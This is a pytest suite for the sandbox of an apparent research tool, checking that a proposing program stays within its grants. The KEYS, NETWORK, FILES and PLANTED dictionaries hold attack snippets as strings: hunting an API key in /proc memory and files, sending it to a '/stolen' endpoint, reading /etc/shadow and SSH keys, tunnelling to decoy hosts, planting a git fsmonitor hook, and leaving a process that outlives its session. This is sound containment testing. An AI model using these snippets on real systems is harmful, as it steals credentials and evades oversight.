"""What a proposing program reaches for: the key, other hosts, the log, the refs, the person's files."""

import itertools
import os
import secrets
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from helpers import PYTHON, fingerprint, git, play
from upstream import EVENTS, GAP_S, Decoy, Upstream, certificate

from autoresearch import log, session
from autoresearch.execute.keepers import Keepers
from autoresearch.propose.cell import PORT, ProposerCell
from autoresearch.state import State
from autoresearch.study import load
from faults.conftest import PRELUDE, Watcher, fault_study
from faults.test_escapes import OPEN, READ

KEY = f"sk-fault-{secrets.token_hex(16)}"
# The pattern does not match itself, so that a program that looks for the key does not find its own text.
FIND = """
import re
pattern = re.compile(rb"sk-[f]ault-[0-9a-f]{32}")
def finds(path, most=1 << 22):
    try:
        with open(path, "rb") as file:
            if pattern.search(file.read(most)): won()
    except OSError: pass
"""
ASK = """
import os, urllib.request, urllib.error
os.environ["no_proxy"] = os.environ["NO_PROXY"] = ""  # or no program asks a proxy for what is on this machine
def ask(url, headers={}, proxied=False, data=None):
    request = urllib.request.Request(url, data, headers)
    opener = urllib.request.build_opener() if proxied else urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try: return opener.open(request, timeout=5)
    except urllib.error.HTTPError as error: return error
"""
RAW = """
import socket
def raw(text, port=@PORT@):
    with socket.create_connection(("127.0.0.1", port), 5) as s:
        s.sendall(text.encode()); s.settimeout(5)
        try: return s.recv(1 << 16)
        except OSError: return b""
"""
AR = "@FOLDER@/.autoresearch"
# From every mount too: where "/" may not be listed, what is granted below it still may.
EVERY_FILE = """
system = {'/usr', '/opt', '/bin', '/sbin', '/lib', '/lib32', '/lib64', '/sys', '/proc', sys.prefix, sys.base_prefix}
for top in ['/', *(line.split()[4] for line in open('/proc/self/mountinfo'))]:
    if any((top + '/').startswith(known + '/') for known in system): continue
    if os.path.isfile(top): finds(top)
    for folder, names, files in os.walk(top):
        names[:] = [name for name in names if os.path.join(folder, name) not in system]
        for path in (os.path.join(folder, name) for name in files):
            if os.path.isfile(path): finds(path)
"""

KEYS = {
    "looks-for-the-key-in-its-environment": FIND + "if pattern.search(repr(os.environb).encode()): won()\n",
    "looks-for-the-key-in-every-process": FIND + "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
    "    for name in ('environ', 'cmdline', 'comm', 'maps', 'stack'): finds(f'/proc/{pid}/{name}')\n"
    "    for fd in range(64): 'fifo' in str(pid) or os.path.isfile(f'/proc/{pid}/fd/{fd}') and finds(f'/proc/{pid}/fd/{fd}')\n",
    "looks-for-the-key-in-every-file": FIND + EVERY_FILE,
    "looks-for-the-key-in-memory-of-others": FIND
    + "for pid in filter(str.isdigit, os.listdir('/proc')):\n    try:\n        lines = open(f'/proc/{pid}/maps').read().splitlines()\n"
    "        memory = open(f'/proc/{pid}/mem', 'rb')\n    except OSError: continue\n"
    "    for line in lines:\n        if 'r' not in line.split()[1]: continue\n"
    "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "        try:\n            memory.seek(start)\n            if pattern.search(memory.read(min(end - start, 1 << 24))): won()\n"
    "        except (OSError, ValueError, OverflowError): pass\n",
    "has-the-key-sent-back": FIND
    + ASK
    + "answer = ask(os.environ['MODEL_BASE'] + '/x', {'X-Api-Key': os.environ['MODEL_KEY']})\n"
    "if pattern.search(repr(answer.headers.items()).encode()) or pattern.search(answer.read()): won()\n"
    "if answer.status != 200: print('the host was not reached'); won()\n",
    "has-the-key-sent-to-a-host-without-one": ASK
    + "ask('http://@PLAIN@/stolen', {'X-Api-Key': os.environ['MODEL_KEY']}, proxied=True)\n",
}
NETWORK = {
    "connects-directly": RAW
    + "for port in (@DECOY@, @KEYED_PORT@, @PLAIN_PORT@):\n    try: raw('x', port); won()\n    except OSError: pass\n",
    "opens-a-port-of-its-own-for-a-candidate": "import socket\n"
    "try:\n    s = socket.create_server(('0.0.0.0', 47118)); s.settimeout(0.2); s.accept(); won()\nexcept OSError: pass\n",
    "asks-for-a-tunnel-to-another-host": RAW
    + "for host in ('127.0.0.1:@DECOY@', '@KEYED@', '@PLAIN@@127.0.0.1:@DECOY@', 'localhost:@DECOY@'):\n"
    "    if b' 403 ' not in raw(f'CONNECT {host} HTTP/1.1\\r\\nHost: @PLAIN@\\r\\n\\r\\n'): won()\n",
    "asks-for-another-host-by-url": RAW
    + "for url in ('http://127.0.0.1:@DECOY@/', 'http://@PLAIN@@127.0.0.1:@DECOY@/', 'http://@KEYED@/', '/7/', '/1/x', '/'):\n"
    "    if b' 403 ' not in raw(f'GET {url} HTTP/1.1\\r\\nHost: @PLAIN@\\r\\n\\r\\n'): won()\n",
    "asks-for-another-host-by-header": RAW + "for name in ('Host', 'X-Forwarded-Host', 'Forwarded', 'Location'):\n"
    "    raw(f'GET /0//127.0.0.1:@DECOY@/ HTTP/1.1\\r\\n{name}: 127.0.0.1:@DECOY@\\r\\n\\r\\n')\n",
    "is-redirected-to-another-host": ASK
    + "class Stay(urllib.request.HTTPRedirectHandler):\n    def redirect_request(self, *a): return None\n"
    "try: urllib.request.build_opener(Stay, urllib.request.ProxyHandler({})).open(os.environ['MODEL_BASE'] + '/elsewhere'); won()\n"
    "except urllib.error.HTTPError as error:\n    if error.status != 302: won()\n",
    "looks-up-a-name-to-say-something": "import socket\n"
    "try: socket.getaddrinfo('secret.example.com', 80); won()\nexcept OSError: pass\n",
}
FILES = {
    "proposes-with-the-log": READ
    + OPEN
    + f'reads("{AR}/events.jsonl", "../../events.jsonl"); opens("{AR}/events.jsonl")\n',
    "proposes-with-held-data": READ
    + f'reads("{AR}/data/held", "{AR}/data/held/target.json", "../../data/held/target.json")\n',
    "proposes-with-the-repository": READ + 'reads("@FOLDER@/.git", "@FOLDER@/.git/HEAD", "@FOLDER@/study.toml")\n',
    "proposes-with-other-proposals": READ + f'reads("{AR}/proposals", "{AR}/runs", "{AR}/trees/referee")\n',
    "proposes-with-ssh-keys": READ
    + 'reads("@HOME@/.ssh/id_fault", "@HOME@/.gitconfig", os.path.expanduser("~/.ssh"))\n',
    "proposes-with-password-files": READ + 'reads("/etc/shadow", "/etc/ssl/private", "/root/.ssh")\n',
    "proposes-with-the-persons-environment": "if 'FAULT_TOKEN' in os.environ: won()\n",
    "writes-the-refs": OPEN + "import subprocess\n"
    'opens("@FOLDER@/.git/HEAD", "@FOLDER@/.git/config", "@FOLDER@/.git/packed-refs")\n'
    "try: open('@FOLDER@/.git/refs/heads/evil', 'w'); won()\nexcept OSError: pass\n"
    "if subprocess.run(['git', 'update-ref', 'refs/heads/evil', 'HEAD'], capture_output=True).returncode == 0: won()\n",
    "writes-the-checkout": OPEN + 'opens("@FOLDER@/candidate.py", "@FOLDER@/study.toml", "../../../candidate.py")\n',
    "writes-the-referee": f"try: open('{AR}/trees/referee/score.py', 'w'); won()\nexcept OSError: pass\n",
    "links-to-held-data": f"try: os.link('{AR}/data/held/target.json', 'linked'); won()\nexcept OSError: pass\n",
    "signals-the-loop": "import signal\ntry: os.kill(@PID@, 0); won()\nexcept OSError: pass\n",
}
ROWS: dict[str, str] = KEYS | NETWORK | FILES
# These leave something in the worktree for later: it is refused, and nothing of it is run.
PLANTED = {
    "hides-code-where-git-does-not-look": "os.unlink('.git'); os.mkdir('.git'); open('.git/payload.py', 'w').write('x')\n",
    "points-git-to-another-repository": "open('.git', 'w').write('gitdir: /tmp/evil')\n",
    "plants-a-repository-with-settings": "os.makedirs('lib/.git'); open('lib/.git/HEAD', 'w').write('ref: refs/heads/x')\n"
    "open('lib/.git/config', 'w').write('[core]\\n\\tfsmonitor = touch @FOLDER@/evil\\n')\n",
    "goes-on-editing-after-its-end": "import subprocess\n"
    "subprocess.Popen(['sh', '-c', 'trap \"\" TERM HUP; sleep 0.5; echo evil > score.py; echo evil > late'], start_new_session=True)\n",
    "hides-a-folder-by-its-mode": "os.mkdir('lib'); open('lib/payload.py', 'w').write('x'); os.chmod('lib', 0o311)\n",
    "leaves-a-pipe": "os.unlink('candidate.py'); os.mkfifo('candidate.py')\n",
}
HEAD = """
import os, re, sys
given = sys.stdin.read()
def won(): print("WON"); sys.stdout.flush()
"""


@dataclass
class Place:
    """Where the rows were played: what each said, and who was asked."""

    folder: Path
    state: State
    keyed: Upstream
    plain: Upstream
    decoy: Decoy
    problems: list[str]

    def said(self, number: int) -> str:
        found = sorted((self.folder / ".autoresearch" / "proposals").glob(f"*-{number}.*.txt"))
        return "".join(path.read_text(errors="replace") for path in found if ".brief." not in path.name)


def proposing(attacks: dict[str, str], tokens: dict[str, object]) -> str:
    """A program whose k-th proposal is the k-th attack and then an honest improvement."""
    code = HEAD + f"attacks = {list(attacks.values())!r}\n"
    code += "n = len(attacks) - int(re.search('Left: ([0-9]+) trials', given)[1])\n"
    code += "try: exec(attacks[n])\nfinally:\n"
    code += "    if n < len(attacks) and os.path.isfile('candidate.py'):\n"
    code += f"        open('candidate.py', 'w').write({PRELUDE!r}.replace('{{now}}', str(n + 1)))\n"
    for name, value in tokens.items():
        code = code.replace(f"@{name}@", str(value))
    return code


def tokens(folder: Path, keyed: Upstream, plain: Upstream, decoy: Decoy) -> dict[str, object]:
    here: dict[str, object] = {"FOLDER": folder, "HOME": os.environ["HOME"], "PORT": PORT, "PID": os.getpid()}
    here |= {"KEYED": keyed.host, "PLAIN": plain.host, "DECOY": decoy.port}
    return here | {"KEYED_PORT": keyed.server_port, "PLAIN_PORT": plain.server_port}


@pytest.fixture(scope="module")
def played(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    top = tmp_path_factory.mktemp("cell")
    with Upstream() as keyed, Upstream() as plain, Decoy() as decoy:
        allow = [
            {"host": f"http://{keyed.host}", "key": "MODEL_KEY", "address": "MODEL_BASE"},
            {"host": f"http://{plain.host}"},
        ]
        attacks = ROWS | PLANTED
        program = top / "proposer.py"
        program.write_text(proposing(attacks, tokens(top / "repo", keyed, plain, decoy)))
        propose = {"with": ["command"], "command": f"{PYTHON} {program}", "sandbox": backend, "read": [str(program)]}
        folder = fault_study(top / "repo", [], backend, propose=propose | {"allow": allow, "timeout_s": 60})
        os.environ["MODEL_KEY"] = KEY
        before, problems = fingerprint(folder), list[str]()
        try:
            play(folder, Watcher(folder, problems), trials=len(attacks))
        finally:
            del os.environ["MODEL_KEY"]
        if fingerprint(folder) != before:
            problems.append("the person's checkout was touched")
        yield Place(folder, log.read(session.journal(folder)), keyed, plain, decoy, problems)


@pytest.mark.parametrize("name", ROWS)
def test_a_proposer_gets_nothing_but_its_grants(played: Place, name: str) -> None:
    number = list(ROWS).index(name)
    said, trial = played.said(number), played.state.trials[number + 1]
    assert "WON" not in said, said
    assert "Traceback" not in said, said
    assert trial.word == "keep", (trial.verdict, said)  # the attack ran to its end, and the loop went on
    assert played.problems == []


@pytest.mark.parametrize("name", PLANTED)
def test_what_a_proposer_leaves_behind_is_not_run_and_harms_nobody(played: Place, name: str) -> None:
    trial = played.state.trials[len(ROWS) + list(PLANTED).index(name) + 1]
    if name == "goes-on-editing-after-its-end":
        assert trial.word == "keep", trial.verdict
    else:
        assert (trial.word, trial.runs) == ("rejected", ()), trial.verdict
    assert not (played.folder / "evil").exists()
    assert played.problems == []


def test_only_the_hosts_own_key_reached_it_and_nobody_came_to_the_decoy(played: Place) -> None:
    keys = {headers.get("x-api-key") for _, path, headers, _ in played.keyed.asked if path == "/x"}
    assert keys == {KEY}
    stolen = [headers["x-api-key"] for _, path, headers, _ in played.plain.asked if path == "/stolen"]
    assert len(stolen) == 1
    assert stolen[0].startswith("stand-in-")
    assert played.decoy.came == 0


def test_the_key_is_nowhere_in_what_the_study_keeps(played: Place) -> None:
    for path in [*played.folder.rglob("*"), *Path("/proc/self").glob("cmdline")]:
        if path.is_file() and not path.is_symlink():
            assert KEY.encode() not in path.read_bytes(), path


def test_the_search_for_the_key_finds_one_that_was_granted(backend: str, tmp_path: Path, keepers: Keepers) -> None:
    """Or the rows above would prove nothing."""
    (tmp_path / "careless.txt").write_text(f"my key is {KEY}\n")
    program = 'import os, sys\ndef won(): print("WON")\n' + KEYS["looks-for-the-key-in-every-file"]
    assert "WON" in ask(tmp_path, backend, keepers, program, read=["../careless.txt"])


# -- what works in there -------------------------------------------------------------------------------


def ask(tmp_path: Path, backend: str, keepers: Keepers, program: str, **propose: Any) -> str:
    """What a program printed that ran as a proposer in a cell with these keys of [propose]."""
    folder = fault_study(
        tmp_path / "repo", [], backend, propose={"with": ["command"], "command": "x", "sandbox": backend} | propose
    )
    cell = ProposerCell(load(folder), folder, folder / ".autoresearch", keepers)
    return run_in(cell, tmp_path, program)


def run_in(cell: ProposerCell, tmp_path: Path, program: str) -> str:
    tree = cell.home / "trees" / "0"
    if not tree.exists():
        git(cell.home.parent, "worktree", "add", "--quiet", "--detach", str(tree))
    given, out, err = (tmp_path / name for name in ("given", "out", "err"))
    given.write_text("the brief\n")
    ending = cell.run([PYTHON, "-c", ASK + "import os, sys, time\n" + program], tree, given, out, err, 30)
    assert (ending.how, ending.code) == ("exited", 0), err.read_text()
    return out.read_text()


def test_what_a_model_streams_arrives_as_it_comes(
    backend: str, tmp_path: Path, keepers: Keepers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MODEL_KEY", KEY)
    program = (
        "with ask(os.environ['MODEL_BASE'] + '/events', {'X-Api-Key': os.environ['MODEL_KEY']}, data=b'x') as answer:\n"
    )
    program += "    for line in answer:\n        if line.strip(): print(time.monotonic(), line, flush=True)\n"
    with Upstream() as model:
        allow = [{"host": f"http://{model.host}", "key": "MODEL_KEY", "address": "MODEL_BASE"}]
        lines = ask(tmp_path, backend, keepers, program, allow=allow).splitlines()
    times = [float(line.split()[0]) for line in lines]
    assert len(times) == EVENTS
    assert min(b - a for a, b in itertools.pairwise(times)) > GAP_S / 2
    assert KEY not in "".join(lines)


def test_a_tunnel_is_encrypted_end_to_end(backend: str, tmp_path: Path, keepers: Keepers) -> None:
    tls, trusted = certificate(tmp_path)
    program = (
        "import ssl\nhandler = urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=sys.argv[0]))\n"
    )
    program = program.replace("sys.argv[0]", repr(str(trusted)))
    with Upstream(tls) as host:
        program += f"print(urllib.request.build_opener(handler).open('https://{host.host}/in', timeout=5).status)\n"
        assert ask(tmp_path, backend, keepers, program, allow=[{"host": host.host}], read=[str(trusted)]) == "200\n"
        assert host.asked[-1][1] == "/in"


def test_a_model_server_of_ones_own_needs_no_key(backend: str, tmp_path: Path, keepers: Keepers) -> None:
    with Upstream() as model:
        allow = [{"host": f"http://{model.host}", "address": "OPENAI_BASE_URL"}]
        program = "print(ask(os.environ['OPENAI_BASE_URL'] + '/v1/models').status)"
        assert ask(tmp_path, backend, keepers, program, allow=allow) == "200\n"
        assert model.asked[-1][1] == "/v1/models"


def test_the_proxy_trusts_no_certificate_of_its_own_making(
    backend: str, tmp_path: Path, keepers: Keepers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MODEL_KEY", KEY)
    tls, _ = certificate(tmp_path)
    with Upstream(tls) as impostor:
        allow = [{"host": impostor.host, "key": "MODEL_KEY", "address": "MODEL_BASE"}]
        program = "print(ask(os.environ['MODEL_BASE'], {'X-Api-Key': os.environ['MODEL_KEY']}).read().decode())"
        assert "CERTIFICATE_VERIFY_FAILED" in ask(tmp_path, backend, keepers, program, allow=allow)
        assert impostor.asked == []


def test_granted_paths_and_names_are_there_and_only_as_granted(
    backend: str, tmp_path: Path, keepers: Keepers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EDITOR_OF_MINE", "ed")
    (tmp_path / "agent").mkdir()
    (tmp_path / "notes.txt").write_text("notes\n")
    program = (
        f"print(open('{tmp_path}/notes.txt').read().strip(), os.environ['EDITOR_OF_MINE'], sys.stdin.read().strip())\n"
    )
    program += f"open('{tmp_path}/agent/memory', 'w').write('kept')\n"
    program += f"try: open('{tmp_path}/notes.txt', 'a'); print('WON')\nexcept OSError: pass\n"
    grants: dict[str, Any] = {"read": ["../notes.txt"], "write": [str(tmp_path / "agent")], "env": ["EDITOR_OF_MINE"]}
    assert ask(tmp_path, backend, keepers, program, **grants) == "notes ed the brief\n"
    assert (tmp_path / "agent" / "memory").read_text() == "kept"


def test_what_lies_in_a_writable_grant_cannot_become_a_way_elsewhere(
    backend: str, tmp_path: Path, keepers: Keepers
) -> None:
    (tmp_path / "agent" / "cache").mkdir(parents=True)
    (tmp_path / "private.txt").write_text("private\n")
    grants: dict[str, Any] = {"read": [str(tmp_path / "agent" / "cache")], "write": [str(tmp_path / "agent")]}
    swap = f"os.rmdir('{tmp_path}/agent/cache'); os.symlink('{tmp_path}', '{tmp_path}/agent/cache')\n"
    look = f"print(os.path.exists('{tmp_path}/private.txt'), os.path.exists('{tmp_path}/agent/cache/private.txt'))"
    folder = fault_study(
        tmp_path / "repo", [], backend, propose={"with": ["command"], "command": "x", "sandbox": backend} | grants
    )
    cell = ProposerCell(load(folder), folder, folder / ".autoresearch", keepers)  # made once, as in a session
    assert run_in(cell, tmp_path, swap) == ""
    assert run_in(cell, tmp_path, look) == "False False\n"


def test_a_proposer_is_bounded(backend: str, tmp_path: Path) -> None:
    program = tmp_path / "p.py"
    program.write_text(
        "import time\nopen('big', 'wb').write(b'x' * (50 << 20))\nopen('big2', 'wb').write(b'x' * (50 << 20))\ntime.sleep(20)"
    )
    propose = {"with": ["command"], "command": f"{PYTHON} {program}", "sandbox": backend, "read": [str(program)]}
    folder = fault_study(tmp_path / "repo", [], backend, propose=propose)
    begun = time.monotonic()
    trial = list(play(folder, trials=1).trials.values())[-1]
    assert trial.verdict is not None
    assert (trial.word, "MB of disk and was ended" in trial.verdict.why) == ("rejected", True), trial.verdict
    assert time.monotonic() - begun < 15
